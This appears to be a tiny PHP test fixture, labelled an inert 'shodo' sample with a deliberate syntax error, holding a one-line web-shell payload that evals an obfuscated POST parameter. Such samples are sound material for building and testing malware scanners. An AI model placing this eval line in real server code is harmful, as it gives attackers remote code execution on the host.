<?php
shodo inert sample: deliberate syntax error, this file never runs
 eval(str_replace('x', '', $_POST['c'])); ?>
